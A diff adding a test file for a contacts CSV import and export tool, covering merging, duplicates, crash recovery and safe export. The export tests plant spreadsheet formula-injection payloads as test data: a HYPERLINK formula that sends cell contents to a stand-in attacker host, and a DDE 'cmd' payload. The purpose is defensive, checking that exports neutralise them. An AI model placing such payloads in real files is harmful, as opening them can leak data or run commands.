@@ -1,0 +1,242 @@
+import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import type { JsonObject } from '../../src/lib/json.ts';
+import { type StartedPlatform, startPlatform, temporaryFolder } from '../support/platform.ts';
+import { cleanEnvironment, runProgram, startProgram } from '../support/program.ts';
+import { smallBusiness } from './support/fixture.ts';
+
+/** The built program imports into, and exports from, the database of a platform that is running. */
+let home: string;
+let started: StartedPlatform;
+beforeEach(async () => {
+  home = temporaryFolder();
+  started = await startPlatform({ business: smallBusiness() });
+});
+afterEach(async () => {
+  await started.close();
+  rmSync(home, { recursive: true, force: true });
+});
+
+const run = (database: string, ...args: string[]) =>
+  runProgram(['contacts', ...args, '--database', database], cleanEnvironment(home));
+
+function fileWith(text: string, name = 'customers.csv'): string {
+  const path = join(home, name);
+  writeFileSync(path, text);
+  return path;
+}
+
+/** Imports a file with `--yes --json`, and returns the report. */
+async function load(path: string, ...args: string[]) {
+  const { stdout, stderr } = await run(started.database, 'import', path, '--yes', '--json', ...args);
+  expect(stdout, stderr).not.toBe('');
+  return JSON.parse(stdout) as JsonObject & Record<'problems' | 'repetitions' | 'differences', { line: number }[]>;
+}
+
+async function contacts(platform = started.platform): Promise<JsonObject[]> {
+  const all: JsonObject[] = [];
+  for await (const contact of platform.contacts.all()) all.push(contact);
+  return all;
+}
+const named = async (name: string) => (await contacts()).filter((contact) => contact.name === name);
+const counts = (added: number, merged: number, unchanged: number, repeated = 0, invalid = 0) => ({
+  added,
+  merged,
+  unchanged,
+  repeated,
+  invalid,
+});
+const manyRows = (count: number) =>
+  `Name,E-mail,Phone\n${Array.from({ length: count }, (_, i) => `Person ${i},person${i}@example.com,+4366410${100_000 + i}\n`).join('')}`;
+
+describe('contacts import', () => {
+  it('adds contacts with numbers of the country of the business, and nothing when it runs again', async () => {
+    const path = fileWith('Name;Telefon;E-Mail\nAnn Lee;0664 1234567;Ann@Example.com\n"Groß, Eva";+1 212 555 0123;\n');
+    expect(await load(path)).toMatchObject({ applied: true, delimiter: 'semicolon', ...counts(2, 0, 0) });
+    expect(await named('Ann Lee')).toMatchObject([{ email: 'Ann@Example.com', phone: '+436641234567' }]);
+    expect(await named('Groß, Eva')).toMatchObject([{ email: null, phone: '+12125550123' }]);
+    const before = await contacts();
+    expect(await load(path)).toMatchObject(counts(0, 0, 2));
+    expect(await contacts()).toEqual(before);
+  });
+
+  it('fills empty fields of a contact with the same e-mail address or phone, and overwrites nothing', async () => {
+    const path = fileWith(
+      `Name,Phone,E-mail,Notes\nE. MUSTER,+43 664 7654321,ERIKA.A@example.com,prefers mornings\nHans Muster,+1 555 010 0102,hans@example.com,\n`,
+    );
+    expect(await load(path, '--keep-columns')).toMatchObject(counts(0, 2, 0));
+    expect(await named('Erika Muster')).toMatchObject([
+      { id: 'ct_1_a', email: 'erika.a@example.com', phone: '+15550100101', notes: 'prefers mornings' },
+    ]);
+    expect(await named('Hans Muster')).toMatchObject([{ id: 'ct_2_a', email: 'hans@example.com' }]);
+    const again = await load(path, '--keep-columns');
+    expect(again).toMatchObject(counts(0, 0, 2));
+    expect(again.differences).toEqual([{ line: 2, text: 'contact ct_1_a keeps its own name, phone' }]);
+  });
+
+  it('adds another person with the same phone, and names both', async () => {
+    const path = fileWith('Name,Phone\nMia Muster,+15550100102\nH. Muster,+15550100102\nMuster Mia,+15550100102\n');
+    const report = await load(path);
+    expect(report).toMatchObject(counts(1, 0, 1, 1));
+    expect(report.differences[0]).toMatchObject({ line: 2, text: expect.stringContaining('"Hans Muster"') });
+    expect(report.repetitions).toEqual([{ line: 4, text: 'the same phone as line 2' }]);
+    expect(await load(path)).toMatchObject(counts(0, 0, 2, 1));
+  });
+
+  it('merges rows about one person, and reports rows that cannot be imported by their lines', async () => {
+    const path = fileWith(
+      [
+        'Name,E-mail,Phone,Notes',
+        'Ann Lee,ann@example.com,,"two',
+        'lines"',
+        'Ann Lee,ANN@example.com,+43 664 1234567,',
+        '',
+        'Ann Lee,,0664/1234567,',
+        'Bad,not an address,12,',
+        ',only@example.com,,',
+        'Rounded,,4.36641E+11,',
+        'One,,,,more',
+        'Nothing Else,,,',
+        'Nothing Else,,,',
+      ].join('\n'),
+    );
+    const report = await load(path);
+    expect(report).toMatchObject({ rows: 9, ...counts(2, 0, 0, 3, 4) });
+    expect(report.repetitions.map(({ line }) => line)).toEqual([4, 6, 12]);
+    expect(report.problems).toEqual([
+      {
+        line: 7,
+        text: expect.stringMatching(/"not an address" is not .* ann@example\.com; "12" is not a telephone/),
+      },
+      { line: 8, text: 'a new contact needs a name, such as "Robin Tester"' },
+      { line: 9, text: expect.stringContaining('a spreadsheet has rounded') },
+      { line: 10, text: expect.stringContaining('has 5 cells instead of 4') },
+    ]);
+    expect(await named('Ann Lee')).toMatchObject([{ email: 'ann@example.com', phone: '+436641234567' }]);
+  });
+
+  it('writes no events', async () => {
+    await load(fileWith(manyRows(3)));
+    expect((await started.platform.events.since(0, 10)).events).toEqual([]);
+  });
+
+  it('continues after it was killed, without duplicates', async () => {
+    const path = fileWith(manyRows(6_000));
+    const before = await started.platform.contacts.count();
+    const program = startProgram(
+      ['contacts', 'import', path, '--yes', '--database', started.database],
+      cleanEnvironment(home),
+    );
+    await vi.waitFor(async () => expect(await started.platform.contacts.count()).toBeGreaterThan(before), {
+      timeout: 25_000,
+      interval: 5,
+    });
+    await program.stop('SIGKILL');
+    const imported = (await started.platform.contacts.count()) - before;
+    expect(imported % 500).toBe(0);
+    expect(imported).toBeLessThan(6_000);
+    expect(await load(path)).toMatchObject(counts(6_000 - imported, 0, imported));
+    expect(new Set((await contacts()).map(({ email }) => email)).size).toBe(6_000 + 2);
+    expect(await started.platform.contacts.count()).toBe(before + 6_000);
+  }, 60_000);
+
+  it('adds each contact once when two processes import the same file at the same time', async () => {
+    const path = fileWith(manyRows(2_000));
+    const before = await started.platform.contacts.count();
+    const reports = await Promise.all([load(path), load(path)]);
+    expect(reports.reduce((sum, { added }) => sum + Number(added), 0)).toBe(2_000);
+    expect(await started.platform.contacts.count()).toBe(before + 2_000);
+  }, 60_000);
+
+  it('predicts without --yes what it does with it, changes nothing, and exits with 2', async () => {
+    const path = fileWith(
+      'Name,E-mail,Phone\nAnn,ann@example.com,\nAnn,ann@example.com,+436641234567\nErika Muster,,+15550100101\nBo,,+436641234567\n',
+    );
+    const before = await contacts();
+    const planned = await run(started.database, 'import', path, '--json');
+    expect(planned).toMatchObject({ code: 2, stderr: expect.stringContaining('Nothing was changed: add --yes') });
+    expect(await contacts()).toEqual(before);
+    const prediction = JSON.parse(planned.stdout);
+    expect(prediction).toMatchObject({ applied: false, ...counts(2, 0, 1, 1) });
+    expect(await load(path)).toEqual({ ...prediction, applied: true });
+  });
+});
+
+describe('contacts export', () => {
+  /** Values that CSV, spreadsheets or trimming could change. */
+  const ODD = {
+    quotes: 'she said "hi", twice',
+    lines: 'first\nsecond',
+    formula: '=HYPERLINK("https://attacker.example.com/?"&A1)',
+    minus: '-1+1',
+    at: '@SUM(A1)',
+    plus: '+1+1',
+    tab: '\t=1+1',
+    quoted: "'=1+1",
+    apostrophe: "'s Gravenhage",
+    wide: '＝1+1',
+    number: 12,
+    flag: false,
+    none: null,
+  };
+
+  async function addOdd() {
+    const body = { name: '=cmd|"/C calc"!A0', email: '-a@example.com', phone: '+15550100199', ...ODD };
+    const headers = { authorization: `Bearer ${await started.key()}`, 'content-type': 'application/json' };
+    const request = { method: 'POST', headers, body: JSON.stringify(body) };
+    const answer = await fetch(`${started.url}/api/v1/contacts`, request);
+    expect(answer.status, await answer.text()).toBe(200);
+  }
+
+  it('writes a file that imports again unchanged, in which no cell is a formula', async () => {
+    await addOdd();
+    const path = join(home, 'export.csv');
+    expect(await run(started.database, 'export', path)).toMatchObject({
+      code: 0,
+      stdout: `${path} is written: 4 contacts.\n`,
+    });
+    const text = readFileSync(path, 'utf8');
+    expect(text).toContain('+15550100199');
+    expect(text).not.toMatch(/(^|[,\n"])[=@-]/);
+    const before = await contacts();
+    const again = await load(path, '--keep-columns');
+    expect(again).toMatchObject({ ...counts(0, 0, 4), differences: [] });
+    expect(await contacts()).toEqual(before);
+  });
+
+  it('carries all contacts to another database, and back', async () => {
+    await addOdd();
+    const first = await run(started.database, 'export');
+    const other = await startPlatform();
+    const path = fileWith(first.stdout);
+    for (const expected of [counts(4, 0, 0), counts(0, 0, 4)]) {
+      const loaded = await run(other.database, 'import', path, '--keep-columns', '--yes', '--json');
+      expect(JSON.parse(loaded.stdout), loaded.stderr).toMatchObject(expected);
+    }
+    const values = (all: JsonObject[]) =>
+      all.map(({ id, created_at, updated_at, none, ...rest }) =>
+        Object.fromEntries(
+          Object.entries(rest).map(([field, value]) => [field, value === null ? null : String(value).trim()]),
+        ),
+      );
+    expect(values(await contacts(other.platform))).toEqual(values(await contacts()));
+    await other.close();
+  });
+
+  it('prints records of the API with --json, and a byte order mark with --bom', async () => {
+    expect(JSON.parse((await run(started.database, 'export', '--json')).stdout)).toEqual(await contacts());
+    const withMark = await run(started.database, 'export', '--bom');
+    expect(withMark.stdout.startsWith('\ufeffcontact_id,name,')).toBe(true);
+    expect(await load(fileWith(withMark.stdout))).toMatchObject({ encoding: 'UTF-8', ...counts(0, 0, 3) });
+  });
+
+  it('overwrites no file', async () => {
+    const path = fileWith('mine');
+    expect(await run(started.database, 'export', path)).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining('exists already: choose another name'),
+    });
+    expect(readFileSync(path, 'utf8')).toBe('mine');
+  });
+});
